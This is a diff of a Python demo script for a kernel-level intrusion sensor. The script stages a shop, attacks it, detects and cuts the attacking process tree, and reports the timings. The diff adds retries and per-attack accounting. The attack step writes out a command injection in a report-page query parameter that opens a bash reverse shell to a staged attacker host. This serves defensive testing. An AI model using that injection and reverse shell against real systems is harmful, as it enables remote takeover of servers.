@@ -2,7 +2,9 @@
 """The story on a real kernel: let the scene run, attack, watch the cut, draw the balance.
 
 What the report says is taken from the topics (observer.py), from the attacker's own log and from the
-client's own counts.
+client's own counts. On a busy machine the cut may come before the attacker's shell has opened: that is
+a good cut, but none that can be seen to silence anything, so the attacker tries again, a bounded number
+of times, and each attack is accounted for by itself (attack.py).
 """
 
 from __future__ import annotations
@@ -11,19 +13,24 @@ import time
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
+from demo.attack import Attack, account, boot_to_wall_ns, times_of
 from demo.observer import Observer
 from demo.recording import save
-from demo.report import Report, Times
-from demo.scene import ATTACKER_NAME, SHELL_PORT, Reader, Scene
+from demo.report import Report
+from demo.scene import ATTACKER_NAME, FIRST_SHELL_PORT, Reader, Scene
 from stream_apps.correlate.ledger import LossLedger
 
 if TYPE_CHECKING:
-    from collections.abc import Callable
+    from collections.abc import Callable, Sequence
 
     from demo.screen import Screen
 
 BENIGN_S = 4.0
 SILENCE_S = 3.0
+# Rarely does one attack in several lose its shell to the cut, even with every core busy. Eight in a row
+# would mean that shells do not open here at all, which is to be said, not to be waited for.
+MAX_ATTACKS = 8
+SETTLE_S = 1.0  # after a cut: what arrived before it has been read by the attacker
 CUT_TIMEOUT_S = 30.0
 RULE = "nsp.rce-egress"
 QUIET_S = 1.0  # no further batch for so long: everything sent has been read
@@ -37,6 +44,8 @@ class Story:
         self._screen = screen
         self._build = build
         self._scene = Scene(build / "logs")
+        self._attempts = 0
+        self._subjects: list[str] = []  # the process tree that was cut, of each attack
 
     def play(self) -> Report:
         """Tell the story.
@@ -52,12 +61,13 @@ class Story:
                 customer = scene.start_shop(observer)
                 attacker = scene.start_attacker()
                 self._benign(observer, customer)
-                self._attack(observer, attacker)
-                self._silence(observer, customer)
+                if self._attack_until_a_shell_opens(observer, attacker):
+                    self._silence(observer, customer)
                 scene.end("workload client")
                 self._end_sensor(observer)
                 self._record(observer)
-                return balance(observer, attacker, customer)
+                attacks = accounts(observer, self._subjects, attacker)
+                return balance(observer, attacks, self._attempts, customer)
 
     def _start_pipeline(self) -> None:
         scene, say = self._scene, self._screen.step
@@ -80,26 +90,49 @@ class Story:
             f"{last['requests']} requests, {last['failed']} failed, {alerts} alerts: all is well"
         )
 
-    def _attack(self, observer: Observer, attacker: Reader) -> None:
-        command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER_NAME}/{SHELL_PORT} 0>&1'"
+    def _attack_until_a_shell_opens(self, observer: Observer, attacker: Reader) -> bool:
+        command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER_NAME}/{FIRST_SHELL_PORT} 0>&1'"
         self._screen.step("the attacker sends one request to the report page:", "bold red")
         self._screen.step(f"  /report?title=x; ({command} &)", "red")
         self._screen.focus = "web"
+        while True:
+            self._attack(observer, attacker)
+            self._show_for(observer, SETTLE_S)
+            if accounts(observer, self._subjects, attacker)[-1].shell_opened:
+                return True
+            self._screen.step("the cut came before the shell had opened: there is nothing to go silent")
+            if self._attempts == MAX_ATTACKS:
+                return False
+            self._screen.step(f"the attacker tries again (attack {self._attempts + 1})", "bold red")
+
+    def _attack(self, observer: Observer, attacker: Reader) -> None:
+        self._attempts += 1
         attacker.tell("go")
-        self._show_until(observer, "an alert", lambda: observer.alert(RULE) is not None)
-        alert = observer.alert(RULE) or {}
+        self._show_until(observer, "an alert", lambda: self._new_alert(observer) is not None)
+        alert = self._new_alert(observer) or {}
+        subject = alert["response"]["subject"]
         found = f"DETECTED  {alert['rule_id']} {alert['severity']}: {alert['description']}"
         self._screen.step(found, "bold yellow")
         self._screen.process_tree(alert["lineage"])
-        self._show_until(observer, "the acknowledgement", lambda: observer.status("APPLIED") is not None)
-        applied = observer.status("APPLIED") or {}
+        self._show_until(observer, "the cut", lambda: observer.status("APPLIED", subject) is not None)
+        applied = observer.status("APPLIED", subject) or {}
         self._screen.step(
             f"CUT       written to the kernel: {applied['processes']} processes, {applied['sockets']} open "
             "sockets; the shop's own process is not among them",
             "bold green",
         )
-        self._show_until(observer, "a refusal", lambda: observer.status("FIRST_REFUSAL") is not None)
-        self._screen.times(times_of(observer))
+        self._show_until(observer, "a refusal", lambda: observer.status("FIRST_REFUSAL", subject) is not None)
+        self._subjects.append(subject)
+        self._screen.times(accounts(observer, self._subjects, attacker)[-1].times)
+
+    def _new_alert(self, observer: Observer) -> dict[str, Any] | None:
+        """Return the alert about the shop whose process tree no attack before had, or None."""
+        shop = self._scene.pods["web"].uid
+        for alert in observer.alerts(RULE):
+            subject = alert["response"]["subject"]
+            if alert["workload"]["id"] == shop and subject and subject not in self._subjects:
+                return alert
+        return None
 
     def _silence(self, observer: Observer, customer: Reader) -> None:
         before = customer.lines[-1]["requests"]
@@ -150,45 +183,39 @@ def wait_until_quiet(observer: Observer) -> None:
         time.sleep(0.05)
 
 
-def boot_to_wall_ns() -> int:
-    """Return what to add to CLOCK_BOOTTIME to get CLOCK_REALTIME on this machine, now."""
-    return time.time_ns() - time.clock_gettime_ns(time.CLOCK_BOOTTIME)
+def accounts(observer: Observer, subjects: Sequence[str], attacker: Reader) -> list[Attack]:
+    """Return each attack's account so far, in order; ``subjects`` are the process trees that were cut."""
+    boot_to_wall, lines, found = boot_to_wall_ns(), list(attacker.lines), []
+    for number, subject in enumerate(subjects, 1):
+        applied = observer.status("APPLIED", subject) or {}
+        refused = observer.status("FIRST_REFUSAL", subject) or {}
+        times = times_of(applied, refused, boot_to_wall)
+        found.append(account(number, times, lines, boot_to_wall))
+    return found
 
 
-def times_of(observer: Observer) -> Times:
-    """Return the four times of the first response."""
-    applied: dict[str, Any] = observer.status("APPLIED") or {}
-    refused: dict[str, Any] = observer.status("FIRST_REFUSAL") or {}
-    return Times(
-        applied["evidence_boot_ns"],
-        applied["issued_at_ns"] - boot_to_wall_ns(),
-        applied["applied_boot_ns"],
-        refused["first_refused_boot_ns"],
-    )
-
-
-def balance(observer: Observer, attacker: Reader, customer: Reader) -> Report:
+def balance(observer: Observer, attacks: Sequence[Attack], attempts: int, customer: Reader) -> Report:
     """Return the report of a run that has ended."""
-    times = times_of(observer)
     seen = observer.read()
     ledger = LossLedger()
     for batch in seen.batches:
         ledger.add(batch)
     totals = ledger.totals()
-    blocked_at = times.map_written_ns + boot_to_wall_ns()
-    arrived = [(line["at_wall_ns"], line["bytes"]) for line in attacker.lines if "bytes" in line]
-    beacons = [line["at_wall_ns"] for line in attacker.lines if line.get("event") == "beacon"]
+    times = next((each for each in attacks if each.shell_opened), attacks[-1]).times
     return Report(
         alerts=len(seen.alerts),
         rules=sorted({alert["rule_id"] for alert in seen.alerts.values()}),
+        attacks=attempts,
+        attacks_cut=len(attacks),
+        shells_opened=sum(each.shell_opened for each in attacks),
         time_to_block_ms=times.after_first_ms(times.map_written_ns),
         decided_after_ms=times.after_first_ms(times.decided_ns),
         first_refused_after_ms=times.after_first_ms(times.first_refused_ns),
         service_requests=customer.lines[-1]["requests"],
         service_requests_failed=customer.lines[-1]["failed"],
-        attacker_bytes_before_block=sum(size for at, size in arrived if at <= blocked_at),
-        attacker_bytes_after_block=sum(size for at, size in arrived if at > blocked_at),
-        attacker_beacons_after_block=sum(at > blocked_at for at in beacons),
+        attacker_bytes_before_block=sum(each.bytes_before_block for each in attacks),
+        attacker_bytes_after_block=sum(each.bytes_after_block for each in attacks),
+        attacker_beacons_after_block=sum(each.beacons_after_block for each in attacks),
         events_produced=totals.produced,
         events_seen=totals.seen,
         events_counted_lost=totals.lost,
